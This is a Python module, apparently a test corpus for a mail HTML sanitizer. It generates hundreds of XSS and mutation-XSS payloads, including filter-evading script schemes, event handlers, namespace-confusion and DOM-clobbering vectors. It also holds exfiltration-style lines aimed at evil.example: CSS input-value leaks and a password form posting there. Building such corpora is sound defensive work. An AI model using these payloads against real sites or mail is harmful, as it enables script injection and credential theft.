"""Hostile HTML by class: ways in which mail has run, loaded or lured, each in the spellings that filters missed.

Written by hand after the classes of public cheat sheets and of mutation XSS papers; `payloads` multiplies them out.
"""

from __future__ import annotations

from itertools import product

RUN = "window.parent.ran=1;window.ran=1"

_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}", "\x01javascript:{}", " javascript:{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}", "javascript&colon;{}", "java&Tab;script:{}",
    "java&NewLine;script:{}", "\u2028javascript:{}", "\u00a0javascript:{}", "javascript://%0a{}", "vbscript:{}", "livescript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "blob:{}", "feed:javascript:{}",
)  # fmt: skip
_LINKS = (
    '<a href="{}">x</a>', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>', '<iframe src="{}"></iframe>',
    '<area href="{}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<object data="{}"></object>',
    '<embed src="{}">', '<base href="{}">', '<img src="{}">',
)  # fmt: skip
_EVENTS = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>", "<img src=x onerror\x0c={}>",
    "<svg onload={}>", "<svg/onload={}>", "<body onload={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>", "<p style='animation:x' onanimationstart={}>", "<iframe onload={}></iframe>", "<object onerror={}></object>",
    "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>", "<a tabindex=0 autofocus onfocus={}>x</a>", "<table onpointerover={}>",
)  # fmt: skip
_WRAPPERS = (
    "{}", "<noscript><p title='</noscript>{}'></noscript>", "<math><mtext><table><mglyph><style><!--</style>{}-->", "<svg></p><style><a id='</style>{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<!--><p>-->{}", "<![CDATA[>{}]]>", "<xmp><p title='</xmp>{}'></xmp>",
    "<title><p title='</title>{}'></title>", "<template>{}</template>", "<svg><foreignObject>{}</foreignObject></svg>", "<div>" * 40 + "{}",
)  # fmt: skip
_SINGLE = (
    "<script>{}</script>", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script src=data:text/javascript,{}></script>",
    "<svg><script>{}</script></svg>", "<svg><script href='data:text/javascript,{}'/></svg>", "<svg><set attributeName=onload to={}>",
    "<svg><animate xlink:href=#x attributeName=href values='javascript:{}'/><a id=x>x</a></svg>", "<svg><use href='data:image/svg+xml,<svg/onload={}>#x'/></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import 'javascript:{}'</style>",
    "<div style='background:url(javascript:{})'>x</div>", "<div style='width:expression({})'>x</div>", "<xml><x>{}</x></xml>", "<isindex action='javascript:{}'>",
    "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={}/>'>", "<portal src='javascript:{}'>", "<keygen autofocus onfocus={}>",
)  # fmt: skip


IMG = f"<img src=x onerror={RUN}>"
EVIL = "https://evil.example"

#: Class of attack -> ways of it. Each was written for what a parser makes of it on the second reading, or without a script.
CLASSES: dict[str, tuple[str, ...]] = {
    "namespace confusion": (
        f"<math><mtext><table><mglyph><style><math><img src=x onerror={RUN}></style></math>",
        f"<svg><desc><style><a title='</style>{IMG}'></desc></svg>", f"<svg><title><style><img title='</style>{IMG}'></title></svg>",
        f"<math><mi><style><!--</style>{IMG}--></mi></math>", f"<svg><p><style><g title='</style>{IMG}'></g></svg>",
    ),
    "annotation-xml": (
        f"<math><annotation-xml encoding='text/html'><style>{IMG}</style></annotation-xml></math>",
        f"<math><annotation-xml encoding='application/xhtml+xml'>{IMG}</annotation-xml></math>",
        f"<math><semantics><annotation-xml><svg><foreignObject>{IMG}</foreignObject></svg></annotation-xml></semantics></math>",
    ),
    "xlink": (
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>", f"<svg><use xlink:href='{EVIL}/x.svg#y'/></svg>",
        f"<svg><image xlink:href='{EVIL}/pixel'/></svg>", f"<math><mi xlink:href='java&#10;script:{RUN}'>x</mi></math>",
    ),
    "clobbering": (
        "<form id=ran><input name=attributes></form>", "<form name=body><input name=innerHTML><input name=removeChild></form>",
        "<a id=defaultView></a><a id=defaultView name=ran href='https://evil.example'></a>", "<img name=cookie><img name=cookie id=location>",
        "<form><input id=nodeName name=childNodes></form>", "<object name=currentScript></object>",
    ),
    "templates": (
        f"<template><script>{RUN}</script></template>", f"<div><template shadowrootmode=open>{IMG}</template></div>",
        f"<template><template>{IMG}</template></template>", f"<table><template><tr><td>{IMG}</td></tr></template></table>",
        f"<svg><template><img src=x onerror={RUN}></template></svg>",
    ),
    "noscript and raw text": tuple(
        f"<{tag}><p title='</{tag}>{IMG}'></{tag}>" for tag in ("noscript", "noembed", "noframes", "iframe", "xmp", "plaintext", "textarea", "title", "listing")
    ),
    "style and import": (
        f"<style>@import '{EVIL}/x.css';</style>", f"<style>@import url({EVIL}/x.css)</style>", f"<link rel=stylesheet href={EVIL}/x.css>",
        f"<link rel=preload as=image href={EVIL}/x>", f"<link rel=dns-prefetch href={EVIL}>", f"<style>p{{background:u\\72l({EVIL}/x)}}</style>",
    ),
    "css exfiltration": (
        f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style><input value=abc>", f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}p{{font-family:x}}</style><p>x",
        f"<p style='background-image:image-set(\"{EVIL}/x\" 1x)'>x</p>", f"<p style='list-style:url({EVIL}/x)'>x</p>", f"<p style='border-image:url({EVIL}/x) 1'>x</p>",
        f"<p style='position:fixed;inset:0;cursor:url({EVIL}/x),auto'>x</p>",
    ),
    "pictures and media": (
        f"<img srcset='{EVIL}/a 1x, {EVIL}/b 2x'>", f"<picture><source srcset={EVIL}/a><img src=data:,></picture>", f"<video poster={EVIL}/p src={EVIL}/v autoplay></video>",
        f"<audio src={EVIL}/a autoplay></audio>", f"<input type=image src={EVIL}/i>", f"<table background={EVIL}/t><td background={EVIL}/d>x</table>",
        f"<body background={EVIL}/b>", f"<img lowsrc={EVIL}/l dynsrc={EVIL}/d longdesc='javascript:{RUN}'>", f"<img src=' \n{EVIL}/n'>", "<img src=//evil.example/s>",
        f"<svg><feImage href={EVIL}/f /></svg>", f"<a href={EVIL} ping={EVIL}/ping>x</a>",
    ),
    "forms": (
        f"<form action={EVIL}><input name=password type=password><button>Log in</button></form>", f"<form id=f></form><button form=f formaction='javascript:{RUN}'>x</button>",
        f"<isindex type=image src={EVIL}/x onerror={RUN}>", f"<form><input type=submit formaction=data:text/html,<script>{RUN}</script>></form>",
    ),
    "refresh and base": (
        f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
        "<META HTTP-EQUIV='Set-Cookie' CONTENT='a=b'>", f"<base href='javascript:{RUN}//'><a href=x>x</a>", f"<base target=_top href={EVIL}><a href=/>x</a>",
    ),
    "comments and cdata": (
        f"<!--><img src=x onerror={RUN}>-->", f"<!-- --!>{IMG} -->", f"<!--!>{IMG}-->", f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>", f"<?xml-stylesheet href='javascript:{RUN}'?>{IMG}",
        f"<!DOCTYPE x [<!ENTITY y '{IMG}'>]>&y;", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"</ {IMG}>", f"<%{IMG}%>",
    ),
    "unicode": (
        "<a href='https://evil.example/\u202egpj.exe'>x</a>", f"<a href='java\u00adscript:{RUN}'>x</a>", f"<\u0131mg src=x onerror={RUN}>", f"<img src=x o\u200bnerror={RUN}>",
        f"<a href='\ufeffjavascript:{RUN}'>x</a>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"<a href='javascript\uff1a{RUN}'>x</a>",
    ),
    "tables and selects": (
        f"<table><td><table>{IMG}", f"<select><option><style></option></select>{IMG}</style>", f"<select><template>{IMG}</template></select>", f"<table><caption><svg><style></table>{IMG}",
        f"<table><colgroup><template></template><col>{IMG}</table>", f"<select><math><mtext>{IMG}</select>", f"<table><select><table>{IMG}</select></table>", f"<frameset><frame src='javascript:{RUN}'></frameset>",
    ),
    "custom elements": (
        f"<x-y is=x-y onclick={RUN} onfocus={RUN} tabindex=0 autofocus>x</x-y>", f"<button is=x-b autofocus onfocus={RUN}>x</button>", f"<p is=img src=x onerror={RUN}>x</p>",
        f"<slot name=x onslotchange={RUN}></slot>", f"<p contenteditable autofocus onfocus={RUN}>x</p>", f"<div popover id=p onbeforetoggle={RUN}></div><button popovertarget=p>x</button>",
    ),
    "deep nesting": (
        "<div>" * 600 + IMG, "<b><i>" * 300 + IMG, "<table><tr><td>" * 100 + IMG, "<svg><foreignObject>" * 60 + IMG, "<font>" * 512 + f"<p></font>{IMG}",
    ),
}  # fmt: skip


def payloads() -> list[str]:
    """Return every payload once."""
    made = [link.format(scheme.format(RUN)) for link, scheme in product(_LINKS, _SCHEMES)]
    made += [wrapper.format(event.format(RUN)) for wrapper, event in product(_WRAPPERS, _EVENTS)]
    made += [one.format(RUN) for one in _SINGLE]
    made += [one for ways in CLASSES.values() for one in ways]
    return list(dict.fromkeys(made))
